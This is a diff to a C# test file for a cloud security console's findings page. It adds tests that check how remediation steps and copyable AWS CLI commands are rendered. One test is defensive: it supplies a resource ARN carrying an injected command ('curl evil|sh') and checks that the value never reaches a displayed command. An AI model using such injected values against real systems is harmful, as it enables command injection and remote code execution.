@@ -165,6 +165,47 @@ public sealed class FindingsTests : ConsoleContext
     }
 
     [Fact]
+    public void A_remedy_has_numbered_steps_and_commands_to_copy_that_name_the_findings_resource()
+    {
+        Inventory.Findings.Add(Samples.Row());
+        Navigation.NavigateTo("/findings?arn=arn%3Aaws%3As3%3A%3A%3Alogs&finding=S3BucketPublic");
+
+        var remedy = Render<Console.Pages.Findings>().Find(".q-details .q-remedy");
+
+        remedy.QuerySelectorAll("h4").Select(title => title.TextContent).Should().Equal("In the console", "With the AWS CLI");
+        remedy.QuerySelectorAll("ol > li").Select(step => step.TextContent).Should().Equal("Open the S3 console.", "Choose logs.");
+        remedy.QuerySelectorAll(".q-command:has(button[data-copy]) code").Select(command => command.TextContent).Should().Equal(
+            "aws s3api put-public-access-block --bucket logs", "aws s3api put-bucket-logging --bucket logs --bucket-logging-status LOGS");
+        remedy.TextContent.Should().ContainAll("Close it.", "Ask before.", "Words in capitals", "111111111111");
+    }
+
+    [Fact]
+    public void A_hostile_name_comes_into_no_command()
+    {
+        const string Arn = "arn:aws:s3:::logs;curl evil|sh";
+        Inventory.Findings.Add(Samples.Row() with { Arn = Arn });
+        Navigation.NavigateTo($"/findings?arn={Uri.EscapeDataString(Arn)}&finding=S3BucketPublic");
+
+        var remedy = Render<Console.Pages.Findings>().Find(".q-details .q-remedy");
+
+        remedy.QuerySelector(".q-command code")!.TextContent.Should().Be("aws s3api put-public-access-block --bucket NAME");
+        remedy.TextContent.Should().NotContain("curl");
+    }
+
+    [Fact]
+    public void A_remedy_of_one_text_is_shown_as_that()
+    {
+        Inventory.Findings.Add(Samples.Row());
+        Catalogue.Views[0] = Catalogue.Views[0] with { Remediation = new() { Summary = "Ask us first: aws s3api x --bucket NAME." } };
+        Navigation.NavigateTo("/findings?arn=arn%3Aaws%3As3%3A%3A%3Alogs&finding=S3BucketPublic");
+
+        var remedy = Render<Console.Pages.Findings>().Find(".q-details .q-remedy");
+
+        remedy.TextContent.Trim().Should().Be("Ask us first: aws s3api x --bucket NAME.");
+        remedy.QuerySelectorAll("h4, ol, .q-command").Should().BeEmpty();
+    }
+
+    [Fact]
     public void An_export_is_of_exactly_what_is_shown()
     {
         Navigation.NavigateTo("/findings?band=high&account=111111111111&service=s3&age=7d&q=log");
